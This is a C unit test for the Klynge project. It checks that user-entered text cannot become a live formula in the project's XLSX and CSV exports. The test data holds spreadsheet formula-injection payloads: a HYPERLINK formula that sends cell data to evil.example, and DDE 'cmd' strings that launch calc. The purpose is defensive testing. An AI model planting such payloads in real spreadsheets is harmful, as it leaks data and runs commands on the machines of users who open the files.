/* test-formula-safety.c — no user text becomes a formula in any export
 *
 * Copyright 2026 The Klynge authors
 * SPDX-License-Identifier: GPL-3.0-or-later
 *
 * Text that a spreadsheet would run (it begins with =, +, - or @) is put
 * everywhere a user can type, then every export is searched: in a workbook,
 * each formula must be one Klynge itself wrote (cell references, SUM and
 * arithmetic only); in a CSV, no text field may begin with such a character.
 */

#include <locale.h>
#include <string.h>

#include "klynge-accounts.h"
#include "klynge-chart-export.h"
#include "klynge-ledger.h"
#include "klynge-member-export.h"
#include "klynge-table-export.h"
#include "klynge-test-utils.h"

static const char *hostile[] = {
  "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")",
  "+1+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+9)*cmd|' /C calc'!A0",
};

static char **
zip_members (const char *zip)
{
  const char *argv[] = { "unzip", "-Z1", zip, NULL };
  g_autoptr(GError) error = NULL;
  g_autofree char *out = NULL;
  int status;

  g_assert_true (g_spawn_sync (NULL, (char **)argv, NULL, G_SPAWN_SEARCH_PATH | G_SPAWN_STDERR_TO_DEV_NULL,
                               NULL, NULL, &out, NULL, &status, &error));
  g_assert_no_error (error);
  g_assert_true (g_spawn_check_wait_status (status, NULL));
  return g_strsplit (g_strstrip (out), "\n", -1);
}

/* Every formula in every sheet of @path is one Klynge wrote; every hostile
 * string that was exported is a plain string. Returns how many of
 * hostile[] the workbook holds as text. */
static guint
assert_xlsx_safe (const char *path)
{
  g_auto(GStrv) members = zip_members (path);
  g_autoptr(GRegex) formula = g_regex_new ("<(c:)?f[^>]*>([^<]*)</(c:)?f>", 0, 0, NULL);
  /* A chart's series and title refer to the sheet's own cells. */
  g_autoptr(GRegex) reference = g_regex_new ("^('([^']|'')+'|[A-Za-z0-9_.]+)!\\$[A-Z]+\\$[0-9]+(:\\$[A-Z]+\\$[0-9]+)?$", 0, 0, NULL);
  g_autoptr(GRegex) ours = g_regex_new ("^(SUM\\([A-Z]+[0-9]+:[A-Z]+[0-9]+\\)|[A-Z]+[0-9]+|[0-9.]+)([-+](SUM\\([A-Z]+[0-9]+:[A-Z]+[0-9]+\\)|[A-Z]+[0-9]+|[0-9.]+))*$",
                                        0, 0, NULL);
  GString *all_text = g_string_new (NULL);
  g_autofree char *text = NULL;
  guint sheets = 0;
  guint formulas = 0;
  guint found = 0;

  for (guint i = 0; members[i] != NULL; i++)
    {
      g_autofree char *xml = NULL;
      g_autoptr(GMatchInfo) match = NULL;
      g_auto(GStrv) parts = g_strsplit (members[i], "[", -1);
      /* unzip reads "[…]" as a pattern: "[[]" is a bracket. */
      g_autofree char *pattern = g_strjoinv ("[[]", parts);

      /* Every part: sheets, shared strings, charts, drawings, properties. */
      if (g_str_has_suffix (members[i], "/"))
        continue;
      xml = klynge_test_unzip_member (path, pattern);
      g_string_append (all_text, xml);

      sheets += g_str_has_prefix (members[i], "xl/worksheets/sheet");
      /* Inline strings would hide text from the shared-string check. */
      g_assert_null (strstr (xml, "t=\"str\""));
      for (g_regex_match (formula, xml, 0, &match); g_match_info_matches (match); g_match_info_next (match, NULL))
        {
          g_autofree char *f = g_match_info_fetch (match, 2);
          gboolean chart = g_str_has_prefix (members[i], "xl/charts/");

          if (!g_regex_match (chart ? reference : ours, f, 0, NULL))
            g_error ("%s: %s holds the formula “%s”, which Klynge did not write", path, members[i], f);
          formulas++;
        }
    }
  g_assert_cmpuint (sheets, >, 0);
  g_test_message ("%s: %u sheets, %u formulas, all Klynge's own", path, sheets, formulas);

  text = g_string_free (all_text, FALSE);
  for (guint h = 0; h < G_N_ELEMENTS (hostile); h++)
    {
      g_autofree char *escaped = g_markup_escape_text (hostile[h], -1);
      g_auto(GStrv) parts = g_strsplit (escaped, "&quot;", -1);
      g_autofree char *unquoted = g_strjoinv ("\"", parts);
      g_auto(GStrv) parts2 = g_strsplit (unquoted, "&apos;", -1);
      g_autofree char *plain = g_strjoinv ("'", parts2);

      found += strstr (text, plain) != NULL || strstr (text, escaped) != NULL;
    }

  return found;
}

/* Splits one CSV line (RFC 4180, no line breaks inside fields here). */
static GPtrArray *
csv_fields (const char *line,
            char        separator)
{
  GPtrArray *fields = g_ptr_array_new_with_free_func (g_free);
  GString *field = g_string_new (NULL);
  gboolean quoted = FALSE;

  for (const char *p = line; ; p++)
    {
      if (quoted && *p == '"' && p[1] == '"')
        g_string_append_c (field, *p++);
      else if (*p == '"')
        quoted = !quoted;
      else if ((*p == separator && !quoted) || *p == '\0')
        {
          g_ptr_array_add (fields, g_string_free (field, FALSE));
          if (*p == '\0')
            break;
          field = g_string_new (NULL);
        }
      else
        g_string_append_c (field, *p);
    }

  return fields;
}

static gboolean
is_number (const char *field)
{
  g_autoptr(GRegex) number = g_regex_new ("^-?[0-9]+([.,][0-9]+)?$", 0, 0, NULL);

  return g_regex_match (number, field, 0, NULL);
}

/* No field begins with = + @ and a "-" only starts a number, read with
 * @separator: the file's own, or the other one (Danish Excel splits at
 * ";", whatever the file says). */
static void
assert_fields_inert (const char *path,
                     guint       line,
                     GPtrArray  *fields)
{
  for (guint j = 0; j < fields->len; j++)
    {
      const char *field = fields->pdata[j];

      if (line == 0 && j == 0 && g_str_has_prefix (field, "\xef\xbb\xbf"))
        field += 3;

      if (strchr ("=+@", field[0]) != NULL && field[0] != '\0')
        g_error ("%s line %u: the field “%s” would run as a formula", path, line + 1, field);
      if (field[0] == '-' && !is_number (field))
        g_error ("%s line %u: the field “%s” would run as a formula", path, line + 1, field);
    }
}

/* Read with either separator no field runs, and every hostile string the
 * file holds is behind an apostrophe. Returns how many of hostile[] the
 * file holds. */
static guint
assert_csv_safe (const char *path,
                 char        separator)
{
  g_autofree char *contents = NULL;
  g_auto(GStrv) lines = NULL;
  guint found = 0;

  g_assert_true (g_file_get_contents (path, &contents, NULL, NULL));
  lines = g_strsplit (contents, "\r\n", -1);

  for (guint i = 0; lines[i] != NULL; i++)
    {
      g_autoptr(GPtrArray) fields = csv_fields (lines[i], separator);
      g_autoptr(GPtrArray) other = csv_fields (lines[i], separator == ',' ? ';' : ',');

      assert_fields_inert (path, i, fields);
      assert_fields_inert (path, i, other);
      for (guint j = 0; j < fields->len; j++)
        for (guint h = 0; h < G_N_ELEMENTS (hostile); h++)
          found += ((const char *)fields->pdata[j])[0] == '\'' && g_str_equal ((const char *)fields->pdata[j] + 1, hostile[h]);
    }

  return found;
}

static void
test_table_writer (void)
{
  static const KlyngeTableColumn columns[] = {
    { "Name", KLYNGE_TABLE_TEXT },
    { "Count", KLYNGE_TABLE_INTEGER },
    { "Amount", KLYNGE_TABLE_MONEY },
  };
  g_autofree char *dir = klynge_test_make_tmpdir ();
  g_autofree char *xlsx = g_build_filename (dir, "t.xlsx", NULL);
  g_autofree char *csv = g_build_filename (dir, "t.csv", NULL);
  g_autoptr(KlyngeTable) table = klynge_table_new (hostile[0], columns, G_N_ELEMENTS (columns));
  KlyngeTable *tables[] = { table };
  g_autoptr(GError) error = NULL;

  for (guint h = 0; h < G_N_ELEMENTS (hostile); h++)
    {
      klynge_table_begin_row (table);
      klynge_table_add_text (table, hostile[h]);
      klynge_table_add_integer (table, -(gint64)h);
      klynge_table_add_number (table, -12.5);
    }
  /* A formula behind the other separator. */
  klynge_table_begin_row (table);
  klynge_table_add_text (table, "x;=cmd|' /C calc'!A0;");

  g_assert_true (klynge_tables_write_xlsx (tables, 1, xlsx, &error));
  g_assert_no_error (error);
  g_assert_cmpuint (assert_xlsx_safe (xlsx), ==, G_N_ELEMENTS (hostile));

  g_assert_true (klynge_table_write_csv (table, csv, &error));
  g_assert_no_error (error);
  g_assert_cmpuint (assert_csv_safe (csv, ','), ==, G_N_ELEMENTS (hostile));

  klynge_test_remove_tree (dir);
}

/* The annual accounts: the cluster's name, a category, counterparties and
 * notes are the user's text. */
static void
test_accounts (void)
{
  g_autofree char *dir = klynge_test_make_tmpdir ();
  g_autofree char *xlsx = g_build_filename (dir, "accounts.xlsx", NULL);
  g_autoptr(GError) error = NULL;
  gint64 cluster_id;
  g_autoptr(KlyngeDb) db = klynge_test_open_demo (dir, &cluster_id);
  gint64 category;
  sqlite3_stmt *stmt;

  stmt = klynge_db_prepare (db, "UPDATE cluster SET name = ?1 WHERE id = ?2", &error);
  sqlite3_bind_text (stmt, 1, hostile[0], -1, SQLITE_STATIC);
  sqlite3_bind_int64 (stmt, 2, cluster_id);
  g_assert_true (klynge_db_step_done (db, stmt, &error));

  category = klynge_ledger_add_category (db, cluster_id, hostile[1], KLYNGE_LEDGER_EXPENSE, &error);
  g_assert_no_error (error);
  g_assert_cmpint (category, >, 0);

  stmt = klynge_db_prepare (db, "INSERT INTO ledger_entry (cluster_id, entry_date, amount, kind, category_id, counterparty, note, reference) "
                                "VALUES (?1, '2026-03-14', 12345, 'expense', ?2, ?3, ?4, ?3)", &error);
  sqlite3_bind_int64 (stmt, 1, cluster_id);
  sqlite3_bind_int64 (stmt, 2, category);
  sqlite3_bind_text (stmt, 3, hostile[2], -1, SQLITE_STATIC);
  sqlite3_bind_text (stmt, 4, hostile[3], -1, SQLITE_STATIC);
  g_assert_true (klynge_db_step_done (db, stmt, &error));
  g_assert_no_error (error);

  g_assert_true (klynge_accounts_write (db, cluster_id, 2026, KLYNGE_ACCOUNTS_XLSX, xlsx, &error));
  g_assert_no_error (error);
  g_assert_cmpuint (assert_xlsx_safe (xlsx), ==, G_N_ELEMENTS (hostile));

  g_clear_object (&db);
  klynge_test_remove_tree (dir);
}

/* Puts hostile[] into the user's text of the demo cluster's first clinic
 * and first member. */
static void
make_hostile_members (KlyngeDb *db)
{
  static const char *updates[] = {
    "UPDATE member SET name = ?1, phone = ?2, email = ?3, notes = ?4 WHERE id = (SELECT min(id) FROM member)",
    "UPDATE clinic SET name = ?1, phone = ?2, address = ?3, notes = ?4 WHERE id = (SELECT min(id) FROM clinic)",
  };
  g_autoptr(GError) error = NULL;

  for (guint i = 0; i < G_N_ELEMENTS (updates); i++)
    {
      sqlite3_stmt *stmt = klynge_db_prepare (db, updates[i], &error);

      g_assert_no_error (error);
      for (guint h = 0; h < G_N_ELEMENTS (hostile); h++)
        sqlite3_bind_text (stmt, h + 1, hostile[h], -1, SQLITE_STATIC);
      g_assert_true (klynge_db_step_done (db, stmt, &error));
      g_assert_no_error (error);
    }
}

/* The member and clinic address list. */
static void
test_members (void)
{
  g_autofree char *dir = klynge_test_make_tmpdir ();
  g_autofree char *xlsx = g_build_filename (dir, "members.xlsx", NULL);
  g_autofree char *csv = g_build_filename (dir, "members.csv", NULL);
  g_autoptr(GError) error = NULL;
  gint64 cluster_id;
  g_autoptr(KlyngeDb) db = klynge_test_open_demo (dir, &cluster_id);

  make_hostile_members (db);

  g_assert_true (klynge_member_export (db, cluster_id, KLYNGE_MEMBER_EXPORT_XLSX, xlsx, &error));
  g_assert_no_error (error);
  g_assert_cmpuint (assert_xlsx_safe (xlsx), ==, G_N_ELEMENTS (hostile));

  g_assert_true (klynge_member_export (db, cluster_id, KLYNGE_MEMBER_EXPORT_CSV, csv, &error));
  g_assert_no_error (error);
  g_assert_cmpuint (assert_csv_safe (csv, ','), >=, G_N_ELEMENTS (hostile));

  g_clear_object (&db);
  klynge_test_remove_tree (dir);
}

/* The charts workbook of a meeting, with the clinics named: clinic,
 * indicator and topic names are the user's text. */
static void
test_charts_workbook (void)
{
  static const KlyngeChartOptions named = { KLYNGE_CHART_FUNNEL, KLYNGE_CHART_THEME_LIGHT, KLYNGE_CHART_NAMED, KLYNGE_FUNNEL_EXACT, TRUE, NULL };
  /* The indicator's name starts with "=": libxlsxwriter takes such a chart
   * title for a formula. */
  static const char *updates[] = {
    "UPDATE indicator SET name = ?1 || ' ' || id",
    "UPDATE clinic SET name = ?1 || ' ' || id",
    "UPDATE topic SET title = ?1",
  };
  g_autofree char *dir = klynge_test_make_tmpdir ();
  g_autofree char *xlsx = g_build_filename (dir, "charts.xlsx", NULL);
  g_autoptr(GError) error = NULL;
  gint64 cluster_id;
  g_autoptr(KlyngeDb) db = klynge_test_open_demo (dir, &cluster_id);

  for (guint i = 0; i < G_N_ELEMENTS (updates); i++)
    {
      sqlite3_stmt *stmt = klynge_db_prepare (db, updates[i], &error);

      g_assert_no_error (error);
      sqlite3_bind_text (stmt, 1, hostile[i], -1, SQLITE_STATIC);
      g_assert_true (klynge_db_step_done (db, stmt, &error));
      g_assert_no_error (error);
    }

  /* Meeting 2 of the demo cluster asked for data. */
  g_assert_true (klynge_chart_export_workbook (db, cluster_id, 2, &named, xlsx, &error));
  g_assert_no_error (error);
  /* The clinics' names are cells; the indicators' names are sheet names,
   * and cells the chart titles refer to. */
  g_assert_cmpuint (assert_xlsx_safe (xlsx), >=, 1);

  g_clear_object (&db);
  klynge_test_remove_tree (dir);
}

int
main (int   argc,
      char *argv[])
{
  setlocale (LC_ALL, "C.UTF-8");
  g_test_init (&argc, &argv, NULL);

  g_test_add_func ("/formula-safety/table-writer", test_table_writer);
  g_test_add_func ("/formula-safety/accounts", test_accounts);
  g_test_add_func ("/formula-safety/members", test_members);
  g_test_add_func ("/formula-safety/charts-workbook", test_charts_workbook);

  return g_test_run ();
}
